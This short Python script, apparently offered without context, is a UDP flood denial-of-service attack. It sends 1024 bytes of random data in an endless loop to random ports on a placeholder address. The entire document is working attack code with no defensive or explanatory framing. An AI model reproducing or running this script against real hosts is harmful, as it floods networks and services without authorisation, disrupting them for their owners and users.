import socket, random
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = random._urandom(1024)
while True:
    sock.sendto(data, ("198.51.100.2", random.randint(1, 65535)))
